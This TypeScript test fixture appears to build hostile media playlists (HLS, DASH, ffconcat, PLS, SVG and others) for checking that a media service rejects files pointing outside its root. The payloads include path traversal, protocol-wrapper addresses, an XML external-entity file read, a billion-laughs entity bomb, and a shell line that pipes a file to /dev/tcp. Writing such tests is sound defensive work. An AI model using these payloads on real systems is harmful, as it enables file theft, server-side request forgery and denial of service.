/** What files that lie point at, and what none of them may reach. */
export interface PointerTargets {
  /** A movie outside of the media root, absolute. */
  readonly movie: string;
  /** A text outside of the media root, absolute. */
  readonly text: string;
  /** A movie of the media root, by its name beside the file that lies. */
  readonly sibling: string;
  /** `host:port` of a listener on this machine. */
  readonly listener: string;
}

const hls = (...lines: readonly string[]): string =>
  ['#EXTM3U', '#EXT-X-VERSION:7', '#EXT-X-TARGETDURATION:3', ...lines, '#EXT-X-ENDLIST', ''].join('\n');
const segment = (address: string): string => hls('#EXTINF:3,', address);
const master = (address: string): string => `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1000,RESOLUTION=160x90\n${address}\n`;
const concat = (...lines: readonly string[]): string => ['ffconcat version 1.0', ...lines, ''].join('\n');
const dash = (inside: string): string =>
  '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT3S">' +
  `<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1000">${inside}` +
  '</Representation></AdaptationSet></Period></MPD>';

/** Everything that one address can be written as. */
const addresses = ({ movie, sibling, listener }: PointerTargets): readonly (readonly [string, string])[] => [
  ['an absolute path', movie],
  ['a file: address', `file://${movie}`],
  ['a sibling', sibling],
  ['a way up', `../../../../../../../..${movie}`],
  ['an address', `http://${listener}/a.ts`],
  ['a socket', `tcp://${listener}`],
  ['concat:', `concat:${movie}|${sibling}`],
  ['subfile:', `subfile,,start,0,end,100000,,:${movie}`],
  ['cache:', `cache:http://${listener}/a.ts`],
  ['crypto:', `crypto+file:${movie}`],
  ['data:', 'data:text/plain;base64,AAAA'],
  ['async:', `async:file:${movie}`],
];

/** Texts that a demuxer may take for a list of files to open: none of them makes a good input. */
export function pointers(bait: PointerTargets): readonly (readonly [how: string, text: string])[] {
  const { movie, text, sibling, listener } = bait;
  const port = listener.split(':')[1];
  return [
    ...addresses(bait).flatMap(([how, address]): readonly (readonly [string, string])[] => [
      [`HLS of ${how}`, segment(address)],
      [`HLS of a list at ${how}`, master(address)],
      [`HLS with its first part at ${how}`, hls(`#EXT-X-MAP:URI="${address}"`, '#EXTINF:3,', sibling)],
      [`HLS with its key at ${how}`, hls(`#EXT-X-KEY:METHOD=AES-128,URI="${address}"`, '#EXTINF:3,', sibling)],
      [`DASH of ${how}`, dash(`<BaseURL>${address.replaceAll('&', '&amp;')}</BaseURL>`)],
      [`ffconcat of ${how}`, concat(`file '${address}'`)],
      [`ASX of ${how}`, `[Reference]\nRef1=${address}\n`],
      [`PLS of ${how}`, `[playlist]\nNumberOfEntries=1\nFile1=${address}\n`],
      [`lavfi of ${how}`, `movie=${address}`],
    ]),
    ['ffconcat with options', concat(`file '${sibling}'`, 'option safe 0', 'option protocol_whitelist file,tcp,http')],
    ['ffconcat of ffconcat', concat("file 'list.ffconcat'")],
    ['HLS of itself', segment('list.m3u8')],
    ['HLS with a range of bytes', hls('#EXTINF:3,', '#EXT-X-BYTERANGE:99999999999@0', movie)],
    ['HLS that goes on for ever', `#EXTM3U\n#EXT-X-TARGETDURATION:99999\n#EXTINF:99999,\n${sibling}\n`],
    ['HLS of ten thousand parts', hls(...Array.from({ length: 10_000 }, () => `#EXTINF:1,\n${sibling}`))],
    ['DASH with an entity', dash('&x;').replace('?>', `?><!DOCTYPE x [<!ENTITY x SYSTEM "file://${text}">]>`)],
    ['DASH with a laugh', dash('&c;').replace('?>', `?><!DOCTYPE x [${laughs()}]>`)],
    ['SDP', `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${port} RTP/AVP 96\n`],
    ['RTSP', `RTSPtextRTSP://${listener}/x\n`],
    ['VobSub', '# VobSub index file, v7\nid: en, index: 0\ntimestamp: 00:00:01:000, filepos: 000000000\n'],
    ['IMF', '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"/>'],
    ['SVG', `<svg xmlns="http://www.w3.org/2000/svg"><image href="file://${movie}" width="9" height="9"/></svg>`],
    ['a lavfi graph', 'color=red[out0];sine[out1]'],
    ['a shell script', `#!/bin/sh\ncat ${text} > /dev/tcp/${listener.replace(':', '/')}\n`],
    ['options', `-i ${text} -f rawvideo out.mkv\n`],
  ];
}

const laughs = (): string =>
  `<!ENTITY a "${'ha'.repeat(1000)}"><!ENTITY b "${'&a;'.repeat(100)}"><!ENTITY c "${'&b;'.repeat(100)}">`;
